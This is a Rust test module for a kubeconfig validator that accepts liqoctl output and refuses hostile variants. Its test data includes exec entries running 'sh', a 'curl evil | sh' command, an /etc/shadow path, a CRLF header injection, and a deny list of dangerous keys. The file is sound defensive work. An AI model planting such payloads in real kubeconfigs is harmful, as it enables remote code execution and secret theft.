//! Tests of the kubeconfig check (a module of `kubeconfig.rs`): what
//! liqoctl writes is accepted and comes back unchanged; every hostile
//! shape of issue 29 is refused, wherever it is put; what is accepted
//! round-trips through its canonical copy.

use proptest::prelude::*;
use serde_yaml_ng::{Mapping, Value};

use super::*;

/// A kubeconfig as `liqoctl generate peering-user` v1.2.0 writes it (see
/// `catalog/tests/fixtures/kubeconfig/README.md`).
const LIQOCTL: &str = include_str!("../../catalog/tests/fixtures/kubeconfig/liqoctl-v1.2.0.yaml");
const CA: &str = include_str!("../../catalog/tests/fixtures/kubeconfig/ca.crt");
const ED_CERT: &str = include_str!("../../catalog/tests/fixtures/kubeconfig/peer-ed25519.crt");
const ED_KEY: &str = include_str!("../../catalog/tests/fixtures/kubeconfig/peer-ed25519.key");
const RSA_CERT: &str = include_str!("../../catalog/tests/fixtures/kubeconfig/peer-rsa.crt");
const RSA_KEY: &str = include_str!("../../catalog/tests/fixtures/kubeconfig/peer-rsa.key");

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn doc(yaml: &str) -> Value {
    serde_yaml_ng::from_str(yaml).expect("test YAML")
}

fn text(v: &Value) -> String {
    serde_yaml_ng::to_string(v).expect("test YAML")
}

#[track_caller]
fn refused(yaml: &str, want: &str) {
    let e = check(yaml).expect_err(yaml);
    assert!(e.0.contains(want), "want {want:?} in {e}\n{yaml}");
}

#[test]
fn liqoctl_v1_2_0_is_accepted_and_kept_as_written() {
    let k = check(LIQOCTL).expect("liqoctl's kubeconfig");
    assert_eq!(k.context, "default-context");
    assert_eq!(k.cluster, "cool-consumer");
    assert_eq!(k.user, "cool-consumer-user");
    assert_eq!(k.namespace.as_deref(), Some("liqo-tenant-cool-consumer"));
    assert_eq!(k.server, "https://203.0.113.7:6443");
    assert!(matches!(k.credential, Credential::ClientCertificate { .. }));
    assert_eq!(canonical(LIQOCTL).expect("canonical"), LIQOCTL);
    let debug = format!("{k:?}");
    assert!(debug.contains("PRIVATE KEY (48 bytes)"), "{debug}");
}

#[test]
fn rsa_keys_token_users_and_no_ca_are_accepted() {
    let mut v = doc(LIQOCTL);
    v["users"][0]["user"]["client-certificate-data"] = b64(RSA_CERT).into();
    v["users"][0]["user"]["client-key-data"] = b64(RSA_KEY).into();
    check(&text(&v)).expect("RSA (liqoctl --tls-compatibility-mode)");

    let mut v = doc(LIQOCTL);
    let user = v["users"][0]["user"].as_mapping_mut().expect("user");
    user.clear();
    user.insert("token".into(), "eyJhbGciOi.eyJzdWIi.c2ln-_~+/==".into());
    v["clusters"][0]["cluster"]
        .as_mapping_mut()
        .expect("cluster")
        .remove("certificate-authority-data");
    v["contexts"][0]["context"]
        .as_mapping_mut()
        .expect("context")
        .remove("namespace");
    let k = check(&text(&v)).expect("token user, system roots");
    assert_eq!(k.certificate_authority, None);
    assert_eq!(check(&k.to_yaml().expect("yaml")).expect("again"), k);
}

#[test]
fn comments_order_and_flow_style_do_not_survive() {
    let noisy = format!(
        "# written by hand\n{}",
        LIQOCTL
            .replace("kind: Config", "kind:    Config   # the kind")
            .replace("preferences: {}\n", "")
    );
    assert_eq!(canonical(&noisy).expect("noisy"), LIQOCTL);
    let json =
        serde_json::to_string(&serde_json::to_value(doc(LIQOCTL)).expect("json")).expect("json");
    assert_eq!(canonical(&json).expect("JSON is YAML"), LIQOCTL);
}

#[test]
fn names_what_is_wrong() {
    let with = |from: &str, to: &str| {
        assert!(LIQOCTL.contains(from), "{from}");
        LIQOCTL.replacen(from, to, 1)
    };
    let user = "  user:\n";
    let cluster = "- cluster:\n";
    let cases = [
        (
            with(user, "  user:\n    exec: {command: sh}\n"),
            "users[0].user.exec is not accepted: a kubeconfig must not run commands",
        ),
        (
            with(user, "  user:\n    Exec: {command: sh}\n"),
            "users[0].user.Exec is not accepted",
        ),
        (
            with(user, "  user:\n    tokenFile: /var/run/secrets/token\n"),
            "users[0].user.tokenFile is not accepted: file paths",
        ),
        (
            with(user, "  user:\n    auth-provider: {name: gcp}\n"),
            "users[0].user.auth-provider is not accepted",
        ),
        (
            with(
                cluster,
                "- cluster:\n    certificate-authority: /etc/shadow\n",
            ),
            "clusters[0].cluster.certificate-authority is not accepted",
        ),
        (
            with(cluster, "- cluster:\n    insecure-skip-tls-verify: true\n"),
            "insecure-skip-tls-verify is not accepted",
        ),
        (
            with(cluster, "- cluster:\n    proxy-url: http://proxy:3128\n"),
            "proxy-url is not accepted",
        ),
        (
            with(cluster, "- cluster:\n    tls-server-name: other.example\n"),
            "tls-server-name is not accepted",
        ),
        (
            with(cluster, "- cluster:\n    colour: blue\n"),
            "clusters[0].cluster.colour: unknown field `colour`",
        ),
        (
            with(user, "  user:\n    <<: {exec: {command: sh}}\n"),
            "merge keys",
        ),
        (with(user, "  user: &u\n"), "anchors"),
        (with("kind: Config", "kind: !!str Config"), "tags"),
        (format!("%YAML 1.1\n---\n{LIQOCTL}"), "directives"),
        (format!("{LIQOCTL}---\n{LIQOCTL}"), "more than one document"),
        (
            with(
                "    server: https://203.0.113.7:6443\n",
                "    server: https://203.0.113.7:6443\n    server: http://203.0.113.7\n",
            ),
            "duplicate",
        ),
        (
            with("server: https://", "server: http://"),
            "must be an https:// URL",
        ),
        (
            with("server: https://", "server: https://me:pw@"),
            "userinfo",
        ),
        (with(":6443", ":6443/?x=1"), "query"),
        (with(":6443", ":6443/#x"), "fragment"),
        (with(":6443", ":99999"), "port"),
        (with("https://203.0.113.7", "https://"), "host"),
        (
            with(&b64(CA), &b64("CA-DATA")),
            "certificate-authority-data holds text outside PEM sections",
        ),
        (
            with(&b64(CA), &b64(ED_KEY)),
            "certificate-authority-data: section 1 is PRIVATE KEY",
        ),
        (
            with(
                &b64(CA),
                &b64("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"),
            ),
            "certificate 1 does not parse",
        ),
        (with(&b64(ED_KEY), &b64(RSA_KEY)), "does not belong"),
        (
            with(
                "    client-key-data:",
                "    token: abc\n    client-key-data:",
            ),
            "exactly one is accepted",
        ),
        (
            with("current-context: default-context", "current-context: other"),
            "current-context must name the context `default-context`",
        ),
        (
            with("    cluster: cool-consumer\n", "    cluster: gone\n"),
            "contexts[0].context.cluster must name",
        ),
        (
            with(
                "    namespace: liqo-tenant-cool-consumer",
                "    namespace: Not_A_NS",
            ),
            "namespace must be a DNS-1123 label",
        ),
        (with("apiVersion: v1", "apiVersion: v2"), "apiVersion"),
        (
            with("preferences: {}", "preferences: {colors: true}"),
            "colors",
        ),
        (
            format!("{LIQOCTL}\n# {}", "x".repeat(MAX_KUBECONFIG_BYTES)),
            "bytes",
        ),
        ("just text".to_string(), "mapping"),
        ("a: [".to_string(), "not YAML"),
    ];
    for (yaml, want) in cases {
        refused(&yaml, want);
    }
}

#[test]
fn values_yaml_1_1_reads_otherwise_are_refused() {
    for (from, to, want) in [
        ("default-context", "yes", "contexts[0].name `yes`"),
        ("cool-consumer-user", "Off", "users[0].name `Off`"),
        ("liqo-tenant-cool-consumer", "n", "namespace `n`"),
        ("cool-consumer", "1_000", "clusters[0].name `1_000`"),
        ("cool-consumer", "0b101", "clusters[0].name"),
    ] {
        refused(&LIQOCTL.replace(from, to), want);
    }
    // Quoted in the canonical copy, so read alike; or not numbers at all.
    for name in [
        "123",
        "0x1f",
        "1.5",
        "0a1b2c3d-4e5f-6789-abcd-ef0123456789",
        "yesterday",
    ] {
        let k = check(&LIQOCTL.replace("cool-consumer-user", &format!("'{name}'"))).expect(name);
        assert_eq!(k.user, name);
        assert_eq!(check(&k.to_yaml().expect("yaml")).expect(name), k);
    }
}

#[test]
fn duplicate_entries_are_refused() {
    for list in ["clusters", "contexts", "users"] {
        let mut v = doc(LIQOCTL);
        let seq = v[list].as_sequence_mut().expect("list");
        seq.push(seq[0].clone());
        refused(&text(&v), &format!("has 2 `{list}`"));
    }
}

// ---- property tests ----------------------------------------------------

/// The places a key can be put in a kubeconfig.
const PLACES: &[&[PathStep]] = &[
    &[],
    &[PathStep::Key("clusters"), PathStep::Index(0)],
    &[
        PathStep::Key("clusters"),
        PathStep::Index(0),
        PathStep::Key("cluster"),
    ],
    &[PathStep::Key("contexts"), PathStep::Index(0)],
    &[
        PathStep::Key("contexts"),
        PathStep::Index(0),
        PathStep::Key("context"),
    ],
    &[PathStep::Key("users"), PathStep::Index(0)],
    &[
        PathStep::Key("users"),
        PathStep::Index(0),
        PathStep::Key("user"),
    ],
    &[PathStep::Key("preferences")],
];

#[derive(Debug, Clone, Copy)]
enum PathStep {
    Key(&'static str),
    Index(usize),
}

fn at<'a>(v: &'a mut Value, path: &[PathStep]) -> &'a mut Mapping {
    let mut v = v;
    for step in path {
        v = match step {
            PathStep::Key(k) => &mut v[*k],
            PathStep::Index(i) => &mut v[*i],
        };
    }
    v.as_mapping_mut().expect("a mapping")
}

/// Keys a client acts on (finding 1 and the rest of client-go's), and a
/// few it does not know.
const HOSTILE_KEYS: &[&str] = &[
    "exec",
    "auth-provider",
    "tokenFile",
    "certificate-authority",
    "client-certificate",
    "client-key",
    "proxy-url",
    "insecure-skip-tls-verify",
    "tls-server-name",
    "username",
    "password",
    "as",
    "as-groups",
    "extensions",
    "disable-compression",
    "cmd-path",
    "<<",
];

fn spelling(key: &str, how: u8) -> String {
    match how % 4 {
        0 => key.to_string(),
        1 => key.to_uppercase(),
        2 => {
            let mut c = key.chars();
            c.next()
                .map(|f| f.to_uppercase().chain(c).collect())
                .unwrap_or_default()
        }
        _ => key.replace('-', "_"),
    }
}

fn hostile_value(which: u8) -> Value {
    match which % 5 {
        0 => Value::from("/etc/shadow"),
        1 => Value::from(true),
        2 => doc("{command: sh, args: [-c, 'curl evil | sh']}"),
        3 => doc("{name: gcp, config: {cmd-path: /bin/sh}}"),
        _ => Value::Null,
    }
}

/// A valid kubeconfig, varied: token or certificate (Ed25519 or RSA),
/// with or without a CA and a namespace, names and servers of every
/// accepted kind.
fn valid() -> impl Strategy<Value = String> {
    // Values YAML 1.1 reads as booleans or numbers are refused (tested
    // apart), so left out here.
    let alike = |s: &String| !yaml11_not_a_string(s);
    let name = || "[A-Za-z0-9][A-Za-z0-9._:@/-]{0,20}".prop_filter("YAML 1.1", alike);
    let host = prop_oneof![
        "[a-z][a-z0-9]{0,10}(\\.[a-z][a-z0-9]{0,10}){0,3}",
        (0u8..=255, 0u8..=255, 0u8..=255, 1u8..=254)
            .prop_map(|(a, b, c, d)| format!("{a}.{b}.{c}.{d}")),
        Just("[2001:db8::7]".to_string()),
    ];
    let port = prop::option::of(1u16..=65535);
    let path = prop::option::of("(/[a-z0-9._~-]{1,8}){1,3}");
    let cred = prop_oneof![
        "[A-Za-z0-9._~+/-]{1,60}={0,2}"
            .prop_filter("YAML 1.1", alike)
            .prop_map(Credential::Token),
        any::<bool>().prop_map(|rsa| {
            let (c, k) = if rsa {
                (RSA_CERT, RSA_KEY)
            } else {
                (ED_CERT, ED_KEY)
            };
            let pem = |s: &str| pem_sections("test", &b64(s)).expect("fixture PEM");
            let key = pem(k).remove(0);
            Credential::ClientCertificate { chain: pem(c), key }
        }),
    ];
    (
        (name(), name(), name()),
        prop::option::of("[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?".prop_filter("YAML 1.1", alike)),
        (host, port, path),
        any::<bool>(),
        cred,
    )
        .prop_map(
            |((context, cluster, user), namespace, (host, port, path), ca, credential)| {
                let port = port.map(|p| format!(":{p}")).unwrap_or_default();
                Kubeconfig {
                    context,
                    namespace,
                    cluster,
                    server: format!("https://{host}{port}{}", path.unwrap_or_default()),
                    certificate_authority: ca
                        .then(|| pem_sections("test", &b64(CA)).expect("fixture PEM")),
                    user,
                    credential,
                }
                .to_yaml()
                .expect("yaml")
            },
        )
}

/// One hostile change to a valid kubeconfig (`doc`), as text.
#[derive(Debug, Clone)]
enum Attack {
    /// A hostile key, spelt some way, with some value, at some place.
    Key(usize, usize, u8, u8),
    /// A key nobody knows at some place.
    Unknown(usize, String),
    /// A second cluster, context or user, with the same name or another
    /// (an exec user or an http server then).
    Second(u8, bool),
    /// A server that is not plain https.
    Server(u8),
    /// A CA that is not certificates.
    Ca(u8),
    /// A user credential that is not exactly one good one.
    User(u8),
    /// Syntax that hides something from the parser: merge keys,
    /// anchors and aliases, tags, directives, several documents,
    /// duplicate keys.
    Syntax(u8, usize),
}

fn attack() -> impl Strategy<Value = Attack> {
    prop_oneof![
        (
            0..PLACES.len(),
            0..HOSTILE_KEYS.len(),
            any::<u8>(),
            any::<u8>()
        )
            .prop_map(|(p, k, s, v)| Attack::Key(p, k, s, v)),
        (0..PLACES.len(), "[a-z][a-zA-Z-]{0,12}").prop_map(|(p, k)| Attack::Unknown(p, k)),
        (any::<u8>(), any::<bool>()).prop_map(|(w, same)| Attack::Second(w, same)),
        any::<u8>().prop_map(Attack::Server),
        any::<u8>().prop_map(Attack::Ca),
        any::<u8>().prop_map(Attack::User),
        (any::<u8>(), any::<usize>()).prop_map(|(w, at)| Attack::Syntax(w, at)),
    ]
}

const KNOWN: &[&str] = &[
    "apiVersion",
    "kind",
    "preferences",
    "clusters",
    "contexts",
    "users",
    "current-context",
    "name",
    "cluster",
    "context",
    "user",
    "server",
    "certificate-authority-data",
    "namespace",
    "token",
    "client-certificate-data",
    "client-key-data",
];

fn apply(yaml: &str, attack: &Attack) -> String {
    let mut v = doc(yaml);
    match attack {
        Attack::Key(place, key, how, value) => {
            at(&mut v, PLACES[*place]).insert(
                spelling(HOSTILE_KEYS[*key], *how).into(),
                hostile_value(*value),
            );
        }
        Attack::Unknown(place, key) => {
            let key = if KNOWN.contains(&key.as_str()) {
                format!("{key}X")
            } else {
                key.clone()
            };
            at(&mut v, PLACES[*place]).insert(key.into(), "x".into());
        }
        Attack::Second(which, same) => {
            let list = ["clusters", "contexts", "users"][usize::from(*which % 3)];
            let seq = v[list].as_sequence_mut().expect("list");
            let mut second = seq[0].clone();
            if !same {
                second["name"] = "second".into();
            }
            match list {
                "clusters" => second["cluster"]["server"] = "http://plain.example".into(),
                "users" => second["user"] = doc("{exec: {command: sh}}"),
                _ => {}
            }
            seq.push(second);
        }
        Attack::Server(which) => {
            let server = v["clusters"][0]["cluster"]["server"]
                .as_str()
                .expect("server")
                .to_string();
            let rest = server.trim_start_matches("https://");
            v["clusters"][0]["cluster"]["server"] = match which % 9 {
                0 => format!("http://{rest}"),
                1 => format!("https://user:pw@{rest}"),
                2 => format!("https://token@{rest}"),
                3 => format!("{server}?x=1"),
                4 => format!("{server}#frag"),
                5 => format!("HTTPS://{rest}"),
                6 => format!("https:///{rest}"),
                7 => format!("https://evil.example\\@{rest}"),
                _ => format!(" {server}"),
            }
            .into();
        }
        Attack::Ca(which) => {
            v["clusters"][0]["cluster"]["certificate-authority-data"] = match which % 6 {
                0 => b64("CA-DATA"),
                1 => b64(ED_KEY),
                2 => "not base64!".to_string(),
                3 => String::new(),
                4 => b64(&format!("junk\n{CA}")),
                _ => b64("-----BEGIN CERTIFICATE-----\nQ0E=\n-----END CERTIFICATE-----\n"),
            }
            .into();
        }
        Attack::User(which) => {
            let user = at(&mut v, PLACES[6]);
            match which % 6 {
                0 => {
                    user.insert("token".into(), "abc".into());
                    user.insert("client-certificate-data".into(), b64(ED_CERT).into());
                    user.insert("client-key-data".into(), b64(ED_KEY).into());
                }
                1 => {
                    user.clear();
                }
                2 => {
                    user.clear();
                    user.insert("token".into(), "".into());
                }
                3 => {
                    user.clear();
                    user.insert("token".into(), "abc\r\nX-Evil: 1".into());
                }
                4 => {
                    user.clear();
                    user.insert("client-certificate-data".into(), b64(ED_CERT).into());
                }
                _ => {
                    user.clear();
                    user.insert("client-certificate-data".into(), b64(CA).into());
                    user.insert("client-key-data".into(), b64(ED_KEY).into());
                }
            }
        }
        Attack::Syntax(which, at) => return syntax(&text(&v), *which, *at),
    }
    text(&v)
}

/// `yaml` with hostile YAML syntax at the `at`th line that can take it.
fn syntax(yaml: &str, which: u8, at: usize) -> String {
    let lines: Vec<&str> = yaml.lines().collect();
    // Lines that open a mapping (`key:` alone) and the indentation of
    // their entries.
    let openers: Vec<(usize, usize)> = lines
        .iter()
        .enumerate()
        .filter(|(_, l)| l.ends_with(':'))
        .map(|(i, l)| (i, l.len() - l.trim_start_matches([' ', '-']).len() + 2))
        .collect();
    let (line, indent) = openers[at % openers.len()];
    let pad = " ".repeat(indent);
    let mut out: Vec<String> = lines.iter().map(|l| l.to_string()).collect();
    match which % 7 {
        0 => out.insert(line + 1, format!("{pad}<<: {{exec: {{command: sh}}}}")),
        1 => out[line] = format!("{} &a", out[line]),
        2 => {
            // An alias to a hostile mapping defined in a comment-free spot.
            out.insert(0, "x-hidden: &h {command: sh}".into());
            out.insert(line + 2, format!("{pad}exec: *h"));
        }
        3 => out[line] = format!("{} !!map", out[line]),
        4 => out.insert(0, "%YAML 1.1\n---".into()),
        5 => out.push(format!("---\n{yaml}")),
        _ => {
            // A duplicate key: the first entry of the mapping again.
            let first = out[line + 1].trim_start_matches([' ', '-']).to_string();
            out.insert(line + 1, format!("{pad}{first}"));
        }
    }
    out.join("\n") + "\n"
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Every hostile change to any valid kubeconfig is refused.
    #[test]
    fn hostile_kubeconfigs_are_refused(yaml in valid(), attack in attack()) {
        let hostile = apply(&yaml, &attack);
        prop_assert!(check(&hostile).is_err(), "accepted {attack:?}:\n{hostile}");
    }

    /// What is accepted comes back as its canonical copy, which checks to
    /// the same model and is its own canonical copy.
    #[test]
    fn accepted_kubeconfigs_round_trip(yaml in valid(), comment in "[ -~]{0,20}", json in any::<bool>()) {
        let k = check(&yaml).expect("valid");
        let sent = if json {
            serde_json::to_string(&serde_json::to_value(doc(&yaml)).expect("json")).expect("json")
        } else {
            format!("# {comment}\n{yaml}")
        };
        let out = canonical(&sent).expect("still valid");
        prop_assert_eq!(&out, &yaml);
        prop_assert_eq!(check(&out).expect("canonical checks"), k);
    }
}
